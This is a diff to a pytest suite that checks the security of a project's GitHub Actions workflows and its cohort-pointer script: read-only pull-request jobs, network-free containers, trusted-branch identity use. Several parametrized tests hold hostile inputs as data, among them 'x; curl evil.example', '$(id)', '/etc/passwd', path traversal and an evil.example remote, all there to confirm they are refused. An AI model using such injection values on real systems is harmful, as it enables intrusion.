@@ -5,6 +5,7 @@ does as little as will do. `docker` is a shim before the real engine: it builds 
 the base image of these tests, and under another name than people's own `oncopixel`.
 """
 
+import hashlib
 import json
 import os
 import re
@@ -115,23 +116,38 @@ def test_there_is_no_stored_secret_at_all() -> None:
         assert not re.search(r"secrets\s*[.\[:]", file.read_text(encoding="utf-8")), file
 
 
-def test_only_the_report_runs_after_a_fork_with_rights() -> None:
+def test_only_two_workflows_run_after_a_pull_request_with_rights() -> None:
     for name, workflow in WORKFLOWS.items():
         assert "pull_request_target" not in workflow["on"], name
-        assert ("workflow_run" in workflow["on"]) == (name == "report"), name
+        assert ("workflow_run" in workflow["on"]) == (name in {"report", "cohorts"}), name
 
 
 @each_job
-def test_a_job_that_a_fork_reaches_can_only_read(job: str) -> None:
-    if "pull_request" not in WORKFLOWS[job.split("/")[0]]["on"]:
-        return
-    rights = set(JOBS[job]["permissions"].items())
-    if rights - {("contents", "read")}:
-        assert job == "pipeline/cohorts"
-        assert rights == {("contents", "read"), ("id-token", "write")}
-        assert JOBS[job]["environment"] == "cohorts"
-        same = "github.event.pull_request.head.repo.full_name == github.repository"
-        assert f"&& {same}\n" in JOBS[job]["if"].replace(" &&", "\n&&") + "\n"
+def test_a_job_of_a_pull_request_can_only_read(job: str) -> None:
+    if "pull_request" in WORKFLOWS[job.split("/")[0]]["on"]:
+        assert set(JOBS[job]["permissions"].items()) <= {("contents", "read")}
+
+
+def test_where_the_cloud_identity_is_only_the_default_branch_runs() -> None:
+    job = JOBS["cohorts/reproduce"]
+    assert job["permissions"] == {"contents": "read", "id-token": "write"}
+    assert job["environment"] == "cohorts"
+    trusted, change, *steps = job["steps"]
+    assert trusted["with"]["ref"] == "${{ github.event.repository.default_branch }}"
+    assert (trusted["with"]["path"], change["with"]["path"]) == ("trusted", "change")
+    scripts = [step["run"] for step in steps]
+    pull = next(i for i, script in enumerate(scripts) if "identity.sh" in script)
+    for script in scripts[: pull + 1]:
+        assert script.count("$PWD/change") == script.count("$PWD/change:/change:ro")
+    assert scripts[0].endswith(" trusted")
+    assert "trusted/.github/scripts/identity.sh" in scripts[pull]
+    assert scripts[pull].strip().endswith('rm "$RUNNER_TEMP/identity"')
+    assert '--volume "$PWD/pulled:/app"' in scripts[pull]
+    for script in scripts[pull + 1 :]:
+        assert script.count("docker run") == script.count("--network none") == 1
+        assert "AWS" not in script
+        assert "identity" not in script
+    assert '--volume "$PWD/trusted:/app:ro"' in scripts[-1]  # whose code judges the results
 
 
 def test_the_report_runs_nothing_of_the_pull_request() -> None:
@@ -174,12 +190,23 @@ def test_the_required_job_waits_for_all_others() -> None:
 
 
 def test_the_pipeline_runs_without_network_and_rights() -> None:
-    runs = [s for j, s in SCRIPTS if j.startswith("pipeline/") for s in s.split("docker run")[1:]]
-    assert len(runs) == 4
+    ours = [s for j, s in SCRIPTS if j.startswith(("pipeline/", "cohorts/"))]
+    runs = [run for script in ours for run in script.split("docker run")[1:]]
+    assert len(runs) == 5
     for run in runs:
         assert ("--network none" in run) == ("AWS" not in run)
         for option in ("--read-only", "--cap-drop ALL", "--user", "--tmpfs /tmp"):
-            assert option in run or "/app:ro" in run
+            assert option in run
+        writable = re.search(r"\$PWD(/change)?:/app\"", run)
+        assert not writable or f"$PWD{writable[1] or ''}/.git:/app/.git:ro" in run
+
+
+def test_after_the_change_ran_only_the_box_runs_its_code() -> None:
+    scripts = [script for job, script in SCRIPTS if job == "pipeline/reproduce"]
+    first = next(i for i, script in enumerate(scripts) if "box dvc repro" in script)
+    for line in "\n".join(scripts[first:]).splitlines():
+        assert not re.search(r"\bgit\b", line), line
+        assert "python" not in line or line.strip().startswith(("box ", "targets=$(box "))
 
 
 # --- jobs that run ----------------------------------------------------------------------------
@@ -187,10 +214,13 @@ def test_the_pipeline_runs_without_network_and_rights() -> None:
 NOTHING = {"runs": {"using": "composite", "steps": [{"shell": "bash", "run": "true"}]}}
 STUBS = {
     "actions/checkout": {
-        "inputs": {"ref": {"default": "HEAD"}, "fetch-depth": {}, "persist-credentials": {}},
+        "inputs": {
+            "ref": {"default": "HEAD"}, "path": {"default": "."}, "fetch-depth": {},
+            "persist-credentials": {},
+        },
         "runs": {"using": "composite", "steps": [{
-            "shell": "bash", "env": {"REF": "${{ inputs.ref }}"},
-            "run": 'git clone -q "$ACT_SOURCE" . && git checkout -q "$REF"',
+            "shell": "bash", "env": {"REF": "${{ inputs.ref }}", "INTO": "${{ inputs.path }}"},
+            "run": 'git clone -q "$ACT_SOURCE" "$INTO" && git -C "$INTO" checkout -q "$REF"',
         }]},
     },
     "actions/upload-artifact": {
@@ -252,7 +282,7 @@ class Act:
 
     def run(
         self, event: str, workflow: str | Path, payload: dict[str, Any], *options: str,
-        timeout: float = 400, **env: str,
+        **env: str,
     ) -> tuple[int, str]:  # fmt: skip
         """Exit status and output of one event."""
         place = self.folder / "event.json"
@@ -268,7 +298,7 @@ class Act:
                 "--env", f"GITHUB_REPOSITORY={REPOSITORY}", *options,
             ],
             cwd=self.source, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True,
-            stderr=subprocess.STDOUT, check=False, timeout=timeout,
+            stderr=subprocess.STDOUT, check=False,
             env=os.environ | {"HOME": str(self.folder / "home"), "PATH": path},
         )  # fmt: skip
         return done.returncode, done.stdout
@@ -358,10 +388,15 @@ def test_a_pull_request_from_pipeline_to_comment(source: Project, act: Act, engi
     assert "- `validation.min_samples`: `50` → `40`" in body
 
 
+ROLE = ["--var", "COHORTS_ROLE=arn:aws:iam::1:role/reader"]
 STUB_ENGINE = r"""#!/usr/bin/env bash
 # Stub, no engine: `docker run` "reproduces" an AUC that is lower than the committed one.
 case "$*" in
-  *cohorts.py*) echo report@simulated ;;
+  *cohorts.py*) echo $TARGETS ;;
+  *prdiff*)
+    while [ "$1" != oncopixel ]; do shift; done
+    shift 2
+    PYTHONPATH=src exec python3 "${@//\/told\//$RUNNER_TEMP/told/}" ;;
   run*) python3 - <<'END'
 import json
 name = "reports/simulated/evaluation.json"
@@ -381,14 +416,28 @@ def test_results_that_are_not_reproduced_fail_after_they_were_reported(
     head = revision(source)
     act.docker(STUB_ENGINE)
     status, said = act.run(
-        "pull_request", FOLDER / "pipeline.yml", pull_request(head, head), "--job", "reproduce"
-    )
+        "pull_request", FOLDER / "pipeline.yml", pull_request(head, head), "--job", "reproduce",
+        TARGETS="report@simulated",
+    )  # fmt: skip
     assert status == 1
     assert re.search("not reproduced: simulated: test_roc_auc is .*, committed", said)
     assert "Failure - Main Require the committed results" in said
     assert "Summary - **" in said
     numbers = json.loads((act.artifacts / "numbers/numbers.json").read_bytes())
     assert numbers["run"]["reproduced"] is False
+
+
+def test_where_no_cohort_runs_without_network_the_run_says_so(source: Project, act: Act) -> None:
+    head = revision(source)
+    act.docker(STUB_ENGINE)
+    status, said = act.run(
+        "pull_request", FOLDER / "pipeline.yml", pull_request(head, head), "--job", "reproduce",
+        TARGETS="",
+    )  # fmt: skip
+    assert status == 0, said[-4000:]
+    assert "Nothing was reproduced" in said
+    numbers = json.loads((act.artifacts / "numbers/numbers.json").read_bytes())
+    assert "reproduced" not in numbers["run"]
 
 
 def test_a_pipeline_that_fails_uploads_nothing(source: Project, act: Act) -> None:
@@ -413,31 +462,35 @@ def shortened(workflow: str, steps: dict[str, str], place: Path, **more: Any) ->
 
 
 @pytest.mark.parametrize(
-    ("owner", "options", "reached"),
+    ("owner", "options", "conclusion", "reached"),
     [
-        (REPOSITORY, ["--var", "COHORTS_ROLE=arn:aws:iam::1:role/reader"], True),
-        (REPOSITORY, [], False),
-        ("stranger/oncopixel", ["--var", "COHORTS_ROLE=arn:aws:iam::1:role/reader"], False),
+        ({"full_name": REPOSITORY}, ROLE, "success", True),
+        ({"full_name": REPOSITORY}, [], "success", False),
+        ({"full_name": REPOSITORY}, ROLE, "failure", False),
+        ({"full_name": "stranger/oncopixel"}, ROLE, "success", False),
+        (None, ROLE, "success", False),
     ],
-    ids=["own branch", "no role configured", "fork"],
+    ids=["own branch", "no role configured", "not reproduced", "fork", "deleted fork"],
 )
 def test_only_own_branches_reach_the_real_cohorts(
-    source: Project, act: Act, tmp_path: Path, owner: str, options: list[str], reached: bool
-) -> None:
-    steps = {"reproduce": "true", "cohorts": "echo reached-the-cohorts"}
-    workflow = shortened("pipeline", steps, tmp_path / "short.yml")
-    head = revision(source)
-    status, said = act.run("pull_request", workflow, pull_request(head, head, owner), *options)
+    source: Project, act: Act, tmp_path: Path, owner: dict[str, str] | None, options: list[str],
+    conclusion: str, reached: bool,
+) -> None:  # fmt: skip
+    steps = {"reproduce": "echo reached-the-cohorts", "tell": "echo told"}
+    workflow = shortened("cohorts", steps, tmp_path / "short.yml")
+    run = {"event": "pull_request", "conclusion": conclusion, "head_repository": owner}
+    status, said = act.run("workflow_run", workflow, {"workflow_run": run}, *options)
     assert status == 0, said
     assert ("| reached-the-cohorts" in said) == reached
+    assert ("| told" in said) == reached
 
 
 def test_cohorts_that_cannot_be_listed_fail_the_job(tmp_path: Path) -> None:
-    (script,) = (s for j, s in SCRIPTS if j == "pipeline/cohorts" and "absent-inputs" in s)
+    (script,) = (s for j, s in SCRIPTS if j == "cohorts/reproduce" and "cohorts.py" in s)
     (tmp_path / "docker").write_text("#!/bin/sh\nexit 1\n")
     (tmp_path / "docker").chmod(0o755)
     done = subprocess.run(
-        ["bash", "-eo", "pipefail", "-c", script], check=False,
+        ["bash", "-eo", "pipefail", "-c", script], check=False, cwd=tmp_path,
         env={"PATH": f"{tmp_path}:{os.environ['PATH']}", "GITHUB_OUTPUT": str(tmp_path / "out")},
     )  # fmt: skip
     assert done.returncode == 1
@@ -586,22 +639,232 @@ def test_the_identity_is_asked_for_as_github_wants_it() -> None:
     assert asked == [(path, "bearer a-request-token")]
 
 
-def test_cohorts_are_told_apart_by_where_their_inputs_are(source: Project) -> None:
-    script = ".github/scripts/cohorts.py"
+RELEASED = ["v1.2.0", "v1.10.0", "v2.0.0rc1"]
 
-    def found(which: str) -> str:
-        return source.run(sys.executable, script, which).stdout.strip()
 
-    assert (found("here"), found("absent"), found("absent-inputs")) == ("report@simulated", "", "")
-    source.set_params(
-        lambda params: params["cohorts"].update(ours={"inputs": "data/sources/ours", "label": "x"})
-    )
-    assert (found("here"), found("absent")) == ("report@simulated", "report@ours")
-    assert found("absent-inputs") == "data/sources/ours"
-    for bad in ("--all-commits", "x; curl evil.example", "$(id)"):
-        source.set_params(lambda params, bad=bad: params["cohorts"]["ours"].update(inputs=bad))
-        done = source.run(
-            sys.executable, ".github/scripts/cohorts.py", "absent-inputs", check=False
-        )
-        assert done.returncode == 1
-        assert done.stdout == ""
+@pytest.mark.parametrize(
+    ("tag", "released", "newest"),
+    [
+        ("v1.10.1", RELEASED, True),
+        ("v1.10.0", RELEASED, True),
+        ("v1.9.9", RELEASED, False),
+        ("v2.0.0rc2", RELEASED, False),
+        ("v0.1.0", [], True),
+        ("v0.1.0rc1", [], False),
+    ],
+)
+def test_latest_moves_forward_only(
+    tmp_path: Path, tag: str, released: list[str], newest: bool
+) -> None:
+    job = JOBS["release/release"]
+    (script,) = (step["run"] for step in job["steps"] if step.get("id") == "newest")
+    (tmp_path / "gh").write_text("#!/bin/sh\n" + "".join(f"echo {tag}\n" for tag in released))
+    (tmp_path / "gh").chmod(0o755)
+    out = tmp_path / "out"
+    subprocess.run(
+        ["bash", "-eo", "pipefail", "-c", script], check=True,
+        env={
+            "PATH": f"{tmp_path}:{os.environ['PATH']}", "GITHUB_OUTPUT": str(out),
+            "GITHUB_REF_NAME": tag, "GITHUB_REPOSITORY": REPOSITORY,
+        },
+    )  # fmt: skip
+    assert out.read_text() == f"newest={str(newest).lower()}\n"
+
+
+def test_latest_moves_after_the_approval_only() -> None:
+    latest, release = JOBS["release/latest"], JOBS["release/release"]
+    assert latest["needs"] == ["image", "release"]
+    assert release["needs"] == "publish"
+    assert JOBS["release/publish"]["environment"] == "release"
+    assert [job for job, script in SCRIPTS if ":latest" in script] == ["release/latest"]
+
+
+COHORTS = ROOT / ".github/scripts/cohorts.py"
+MD5 = "0123456789abcdef" * 2
+
+
+class Change:
+    """A pull request's files with cohorts of every kind, beside a trusted checkout."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder, self.trusted = folder / "change", folder / "trusted"
+        (self.trusted / ".dvc").mkdir(parents=True)
+        (self.trusted / ".dvc/config").write_text("[core]\nremote = ours\n")
+        (self.folder / "data/here").mkdir(parents=True)
+        self.entries: dict[Any, Any] = {
+            "shipped": {"source": {"kind": "files"}, "inputs": "data/here"},
+            "ours": {"source": {"kind": "files"}, "inputs": "data/sources/ours"},
+            "gdc": {"source": {"kind": "gdc"}, "inputs": "data/here"},
+        }
+        outs = [
+            {"path": f"data/gdc/{name}", "md5": MD5, "hash": "md5"}
+            for name in ("cohort.h5ad", "external.h5ad", "truth.csv", "clinical.csv")
+        ]
+        self.put("dvc.lock", {"stages": {"ingest@gdc": {"outs": outs}}})
+        self.put("data/sources/ours.dvc", {"outs": [{"md5": f"{MD5}.dir", "path": "ours"}]})
+
+    def put(self, name: str, content: Any) -> None:
+        (self.folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (self.folder / name).write_text(yaml.safe_dump(content, sort_keys=False))
+
+    def run(self, *arguments: str, cwd: Path) -> subprocess.CompletedProcess[str]:
+        self.put("params.yaml", {"cohorts": self.entries})
+        command = [sys.executable, COHORTS, *arguments]
+        return subprocess.run(command, cwd=cwd, capture_output=True, text=True, check=False)
+
+    def pointers(self) -> tuple[subprocess.CompletedProcess[str], dict[str, Any]]:
+        """What the script says, and the files that it makes, parsed."""
+        pulled = self.folder.parent / "pulled"
+        shutil.rmtree(pulled, ignore_errors=True)
+        done = self.run("pointers", str(self.folder), str(pulled), cwd=self.trusted)
+        return done, {
+            str(path.relative_to(pulled)): yaml.safe_load(path.read_text())
+            for path in pulled.rglob("*.dvc") if path.is_file()
+        }  # fmt: skip
+
+
+@pytest.fixture
+def change(tmp_path: Path) -> Change:
+    return Change(tmp_path)
+
+
+def pointer(name: str, md5: str = MD5) -> dict[str, Any]:
+    return {"outs": [{"md5": md5, "hash": "md5", "path": name}]}
+
+
+def test_cohorts_are_told_apart_by_where_their_data_are(change: Change) -> None:
+    here = change.run("here", cwd=change.folder)
+    assert here.stdout == "report@shipped\n"
+    assert "cohort gdc is not run here: its source downloads" in here.stderr
+    assert "cohort ours is not run here: data/sources/ours is not in git" in here.stderr
+    done, made = change.pointers()
+    assert done.stdout == "report@ours validate@gdc\n"
+    names = ("cohort.h5ad", "external.h5ad", "truth.csv", "clinical.csv")
+    assert made == {
+        "data/sources/ours.dvc": pointer("ours", f"{MD5}.dir"),
+        **{f"data/gdc/{name}.dvc": pointer(name) for name in names},
+    }
+    config = change.folder.parent / "pulled/.dvc/config"
+    assert config.read_text() == "[core]\nremote = ours\n"
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"source": {"kind": "xena", "hub": "https://hub.example.org/download"}},
+        {"source": {"kind": "cbioportal", "url": "https://hub.example.org/study"}},
+        {"source": {"kind": "files", "expression": "http://hub.example.org/x.tsv"}},
+        {"source": {"kind": "files"}, "external": {"source": {"kind": "gdc"}}},
+    ],
+)
+def test_a_cohort_whose_source_downloads_is_not_run_here(change: Change, entry: Any) -> None:
+    change.entries = {"one": entry | {"inputs": "data/here"}}
+    done = change.run("here", cwd=change.folder)
+    assert done.returncode == 0
+    assert done.stdout.strip() == ""
+    assert "its source downloads" in done.stderr
+    change.put("dvc.lock", {})
+    done, made = change.pointers()
+    assert done.returncode == 0
+    assert (done.stdout.strip(), made) == ("", {})
+    assert "no pointer to its data" in done.stderr
+
+
+def test_what_the_pointers_name_is_pulled_and_put_beside_the_code(
+    change: Change, tmp_path: Path
+) -> None:
+    """The commands of the workflow, without their containers."""
+    store = tmp_path / "store"
+    listing = json.dumps([{"md5": oid(b"ours"), "relpath": "sub/x"}]).encode()
+    names = {oid(listing) + ".dir": listing, oid(b"ours"): b"ours", oid(b"gdc"): b"gdc"}
+    for name, content in names.items():
+        stored = store / "files/md5" / name[:2] / name[2:]
+        stored.parent.mkdir(parents=True, exist_ok=True)
+        stored.write_bytes(content)
+    config = f"[core]\nremote = ours\n['remote \"ours\"']\nurl = {store}\nverify = true\n"
+    (change.trusted / ".dvc/config").write_text(config)
+    change.put("data/sources/ours.dvc", pointer("ours", oid(listing) + ".dir"))
+    outs = [{"path": "data/gdc/cohort.h5ad", "md5": oid(b"gdc"), "hash": "md5"}]
+    change.put("dvc.lock", {"stages": {"ingest@gdc": {"outs": outs}}})
+    done, _ = change.pointers()
+    assert done.stdout == "report@ours validate@gdc\n"
+    pulled, path = tmp_path / "pulled", f"{TOOLS}:{os.environ['PATH']}"
+    subprocess.run([TOOLS / "dvc", "pull"], cwd=pulled, check=True)
+    (script,) = (script for _, script in SCRIPTS if "tar -C /pulled" in script)
+    (copy,) = (line for line in script.splitlines() if "tar -C" in line)
+    copy = copy.replace("/pulled", str(pulled)).replace("/app", str(change.folder))
+    subprocess.run(["bash", "-ec", copy], check=True, env={"PATH": path})
+    assert (change.folder / "data/sources/ours/sub/x").read_bytes() == b"ours"
+    assert (change.folder / "data/gdc/cohort.h5ad").read_bytes() == b"gdc"
+    assert not (change.folder / ".dvc").exists()
+    assert not (change.folder / "data/gdc/cohort.h5ad.dvc").exists()
+
+
+def oid(content: bytes) -> str:
+    return hashlib.md5(content, usedforsecurity=False).hexdigest()
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        {"deps": [{"path": "x", "repo": {"url": "https://evil.example"}}]},
+        {"cmd": "curl evil.example", "frozen": False},
+        {"outs": [{"md5": MD5, "path": "ours", "remote": "evil", "cloud": {"evil": {}}}]},
+        {"outs": [pointer("ours")["outs"][0], {"md5": MD5, "path": "../../.dvc/config"}]},
+    ],
+    ids=["import", "command", "remote", "another place"],
+)
+def test_of_a_pointer_only_the_digest_is_taken(change: Change, hostile: dict[str, Any]) -> None:
+    change.put("data/sources/ours.dvc", pointer("ours") | hostile)
+    done, made = change.pointers()
+    assert done.returncode == 0
+    assert made["data/sources/ours.dvc"] == pointer("ours")
+    assert len(made) == 5
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        [], "text", {"outs": {}}, {"outs": [[]]}, {"outs": [{"path": "ours"}]},
+        pointer("ours", "../../x"), pointer("../ours"), pointer("/etc/passwd"), pointer("other"),
+    ],
+)  # fmt: skip
+def test_a_pointer_that_is_none_is_not_followed(change: Change, content: Any) -> None:
+    change.put("data/sources/ours.dvc", content)
+    done, made = change.pointers()
+    assert done.stdout == "validate@gdc\n"
+    assert "cohort ours is not run: no pointer to its data in git" in done.stderr
+    assert len(made) == 4
+
+
+@pytest.mark.parametrize("which", ["here", "pointers"])
+@pytest.mark.parametrize(
+    ("name", "inputs"),
+    [
+        ("ours", "--all-commits"), ("ours", "x; curl evil.example"), ("ours", "$(id)"),
+        ("ours", "/etc"), ("ours", "../x"), ("ours", "a/../../x"), ("ours", "a\nb"), ("ours", 1),
+        ("--x", "data"), ("a b", "data"), ("a\n", "data"), ("a@b", "data"), (1, "data"),
+    ],
+)  # fmt: skip
+def test_what_cannot_be_given_to_a_command_is_refused(
+    change: Change, which: str, name: Any, inputs: Any
+) -> None:
+    change.entries = {name: {"inputs": inputs}}
+    if which == "here":
+        done = change.run("here", cwd=change.folder)
+    else:
+        done, made = change.pointers()
+        assert made == {}
+    assert done.returncode == 1
+    assert done.stdout == ""
+    assert "Traceback" not in done.stderr
+
+
+@pytest.mark.parametrize("text", ["[" * 5000, "a: [", "\x00", "cohorts: {a: !!python/name:os.x }"])
+def test_parameters_that_cannot_be_read_end_in_one_line(change: Change, text: str) -> None:
+    (change.folder / "params.yaml").write_text(text)
+    command = [sys.executable, COHORTS, "here"]
+    done = subprocess.run(command, cwd=change.folder, capture_output=True, text=True, check=False)
+    assert done.returncode == 1
+    assert done.stderr.startswith("error: params.yaml cannot be read")
+    assert len(done.stderr.splitlines()) == 1
